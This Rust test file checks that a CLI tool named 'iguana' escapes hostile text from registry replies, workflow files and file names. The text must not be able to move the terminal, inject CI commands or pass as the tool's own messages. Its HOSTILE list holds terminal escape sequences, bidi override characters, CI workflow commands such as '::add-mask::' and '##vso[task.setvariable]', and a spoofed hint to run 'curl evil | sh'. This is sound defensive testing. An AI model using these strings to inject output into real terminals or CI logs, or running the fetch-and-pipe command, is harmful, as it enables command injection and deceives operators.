//! Untrusted text in any output cannot control the terminal, issue a command to a CI service, or look like a message
//! of this program.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a failed test panics, also in the functions that tests share"
)]
#![allow(clippy::disallowed_methods, reason = "tests write to temporary directories")]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::process::{Command, Output};
use std::{fs, thread};

/// Text that a registry, a workflow or a file name could contain.
const HOSTILE: &[&str] = &[
    "no\niguana: workflow: signed by ECDSA P-256 sha256:00",
    "no\r\niguana: error: x\r\n  hint: run `curl evil | sh`",
    "\u{1b}[2J\u{1b}[Higuana: ok",
    "\u{9b}31m\u{8}\u{7f}",
    "gpj\u{202e}exe\u{200b}\u{2028}iguana: x\u{85}iguana: y",
    "::error::x\n##[error]x\n  ::add-mask::x\n##vso[task.setvariable variable=a]b",
];

fn iguana(directory: &Path, arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_iguana"));
    command.current_dir(directory).env("HOME", directory).args(arguments).output().unwrap()
}

/// All printed lines; checks that no line contains anything forbidden.
fn printed(output: &Output) -> Vec<String> {
    let text = [&output.stdout[..], b"\n", &output.stderr].concat();
    let text = String::from_utf8(text).unwrap();
    for line in text.split('\n') {
        let hidden = |letter: char| {
            letter.is_control() && letter != '\t' || "\u{202e}\u{200b}\u{2028}".contains(letter)
        };
        assert!(!line.contains(hidden), "{line:?}");
        assert!(!line.contains("##[") && !line.contains("##vso["), "{line}");
        assert!(!line.starts_with("iguana: workflow:") && !line.starts_with("iguana: error: x"), "{line}");
        assert!(!line.starts_with("  hint: run `curl"), "{line}");
        assert!(
            !line.trim_start().starts_with("::add-mask") && !line.trim_start().starts_with("::error::"),
            "{line}"
        );
    }
    text.lines().map(str::to_owned).collect()
}

/// Starts a registry without content whose error messages have these words; returns its address.
fn registry(words: &'static str) -> String {
    let observer = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = observer.local_addr().unwrap().to_string();
    thread::spawn(move || {
        for stream in observer.incoming() {
            let mut stream = stream.unwrap();
            let _ = stream.read(&mut [0; 4096]);
            let body = serde_json::json!({"errors": [{"code": words, "message": words}]}).to_string();
            let head =
                format!("HTTP/1.1 404 X\r\nconnection: close\r\ncontent-length: {}\r\n\r\n", body.len());
            let _ = stream.write_all(format!("{head}{body}").as_bytes());
        }
    });
    address
}

#[test]
fn messages_of_a_registry_are_escaped() {
    for words in HOSTILE {
        let home = tempfile::tempdir().unwrap();
        let address = registry(words);
        let conf = format!("[[registry]]\nlocation = \"{address}\"\ninsecure = true\n");
        fs::write(home.path().join("registries.conf"), conf).unwrap();
        let image = format!("{address}/x");
        let output = iguana(home.path(), &["pull", "--registries", "registries.conf", &image, "out"]);
        assert_eq!(output.status.code(), Some(1));
        let lines = printed(&output);
        assert!(lines.iter().any(|line| line.contains("the server replied: ")), "{lines:?}");
    }
}

#[test]
fn the_content_and_name_of_a_workflow_are_escaped() {
    for (number, words) in HOSTILE.iter().enumerate() {
        let home = tempfile::tempdir().unwrap();
        let name = words.replace('/', "_");
        let quoted = serde_json::to_string(words).unwrap();
        let good = format!(
            "name: {quoted}\njobs: {{a: {{name: {quoted}, if: {}, container: {{image: r.example/a, env: {{A: {quoted}}}}}}}}}\n",
            serde_json::to_string(&format!("'{words}' == ''")).unwrap()
        );
        let bad = format!(
            "{quoted}: 1\njobs: {{{quoted}: {{container: {quoted}, {quoted}: [x]}}}}\n# {}\n",
            words.replace('\n', " ")
        );
        for workflow in [good, bad, format!("jobs: {words}")] {
            fs::write(home.path().join(&name), &workflow).unwrap();
            for arguments in [
                &["--format", "human"][..],
                &["--format", "human", "--plan"],
                &["--format", "json", "--plan"],
                &["--format", "sarif"],
            ] {
                printed(&iguana(home.path(), &[&["check"], arguments, &["--", &name]].concat()));
            }
            let output = iguana(home.path(), &["check", "--format", "github", "--", &name]);
            for line in String::from_utf8(output.stdout).unwrap().lines() {
                let is_own = ["::error file=", "::warning file=", "::notice file="]
                    .iter()
                    .any(|own| line.starts_with(own));
                assert!(
                    is_own && !line.contains(char::is_control) && !line.contains("##["),
                    "{number}: {line:?}"
                );
            }
        }
        printed(&iguana(home.path(), &["check", "--", &format!("missing {words}")]));
        printed(&iguana(home.path(), &["pull", &format!("oci:{words}"), "out"]));
        printed(&iguana(home.path(), &["trust", "explain", words]));
        assert!(Path::new(&name).as_os_str().as_bytes().len() < 255);
    }
}
